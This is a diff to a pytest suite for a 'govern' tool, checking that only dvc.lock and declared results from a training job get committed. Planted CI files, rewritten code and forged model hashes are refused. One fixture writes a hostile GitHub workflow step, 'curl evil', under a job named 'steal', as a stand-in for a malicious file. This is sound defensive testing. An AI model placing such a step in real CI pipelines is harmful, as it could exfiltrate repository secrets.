@@ -15,6 +15,7 @@ from conftest import commit_all, git, tiny_pipeline
 
 from govern.api import locks
 from govern.api.context import open_project
+from govern.errors import GovernError
 from govern.events import ModelRegistered, PendingEvent, TrainingCompleted, utc_now
 
 MD5, SHA = "a" * 32, "b" * 64
@@ -29,6 +30,27 @@ stages:
       md5: {"c" * 32}
     - path: .github/workflows/ci.yml
       md5: {"d" * 32}
+  ghost:
+    cmd: 'true'
+    outs:
+    - path: .
+      md5: {"0" * 32}.dir
+    - path: make.py
+      md5: {"1" * 32}
+"""
+DVC_YAML = """stages:
+  make:
+    cmd: python make.py
+    deps: [make.py]
+    params: [n]
+    outs: [out.txt]
+    metrics:
+      - score.json:
+          cache: false
+artifacts:
+  tiny-model:
+    path: out.txt
+    type: model
 """
 
 
@@ -36,6 +58,7 @@ stages:
 def trained(tmp_path: Path) -> dict:
     """A project whose base commit tracks score.json and a CI workflow; a training reporting LOCK at it."""
     project = tiny_pipeline(tmp_path / "project")
+    (project / "dvc.yaml").write_text(DVC_YAML)
     (project / "score.json").write_text('{"n": 0}')
     (project / ".github" / "workflows").mkdir(parents=True)
     (project / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
@@ -44,6 +67,7 @@ def trained(tmp_path: Path) -> dict:
     (job / ".github" / "workflows").mkdir(parents=True)
     (job / "dvc.lock").write_text(LOCK)
     (job / "score.json").write_text('{"n": 7}')
+    (job / "make.py").write_text("print('harmless, and not what ran')\n")  # what a stage may rewrite
     (job / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: curl evil}}\n")
     return {"project": project, "base": base, "job": job, "training": record(project, base, LOCK)}
 
@@ -62,7 +86,7 @@ def record(project: Path, base: str, lock_text: str) -> str:
     return done.event_id
 
 
-def test_the_lock_and_tracked_results_are_committed_but_never_a_file_that_steers_ci(trained: dict) -> None:
+def test_the_lock_and_declared_results_are_committed_never_code_nor_a_file_that_steers_ci(trained: dict) -> None:
     project, base = trained["project"], trained["base"]
 
     sha, note = locks.commit_for_job(open_project(project), "0123456789ab", trained["training"], trained["job"], "sci")
@@ -72,6 +96,7 @@ def test_the_lock_and_tracked_results_are_committed_but_never_a_file_that_steers
     assert git(project, "rev-parse", f"{sha}^") == base
     assert sorted(git(project, "diff", "--name-only", base, sha).split()) == ["dvc.lock", "score.json"]
     assert git(project, "show", f"{sha}:.github/workflows/ci.yml") == "on: push", "the job's CI file is not taken"
+    assert "harmless" not in git(project, "show", f"{sha}:make.py"), "the code that ran, not a stage's rewrite"
     assert git(project, "log", "-1", "--format=%an <%ae>", sha) == "govern server <govern-server@localhost>"
     assert git(project, "status", "--porcelain") == "", "the server's work tree and index are untouched"
     [locked] = open_project(project).ledger.read(types=["training.locked"])
@@ -103,3 +128,32 @@ def test_an_existing_branch_is_never_moved(trained: dict) -> None:
 
     assert sha is None and "the lock could not be committed" in note, note
     assert git(project, "rev-parse", "govern/trainings/0123456789ab") == before
+
+
+def test_a_lock_that_does_not_give_the_model_its_registered_md5_is_not_committed(tmp_path: Path) -> None:
+    """An insider's job: a later stage rewrote the model's entry in dvc.lock to an older version's md5, so the
+    lock commit would have rebuilt other bytes than the ones registered."""
+    project = tiny_pipeline(tmp_path / "project")
+    base = commit_all(project, "base")
+    forged = LOCK.replace(f"md5: {MD5}", f"md5: {'9' * 32}", 1)
+    job = tmp_path / "job"
+    job.mkdir()
+    (job / "dvc.lock").write_text(forged)
+    training = record(project, base, forged)
+
+    sha, note = locks.commit_for_job(open_project(project), "0123456789ab", training, job, "sci")
+
+    assert sha is None and f"does not rebuild its versions (it gives out.txt md5 {'9' * 32})" in note, note
+    assert open_project(project).ledger.read(types=["training.locked"]) == []
+
+
+def test_a_commit_made_before_a_crash_is_taken_again_by_the_retry(trained: dict) -> None:
+    from govern.adapters import git as git_adapter
+
+    project, base = trained["project"], trained["base"]
+    files = {"dvc.lock": LOCK.encode()}
+    first = git_adapter.commit_onto(project, base, files, "govern/trainings/x", "m", "govern server", "s@localhost")
+    again = git_adapter.commit_onto(project, base, files, "govern/trainings/x", "m", "govern server", "s@localhost")
+    assert again == first
+    with pytest.raises(GovernError, match="update-ref"):
+        git_adapter.commit_onto(project, base, {"dvc.lock": b"other"}, "govern/trainings/x", "m", "s", "s@localhost")
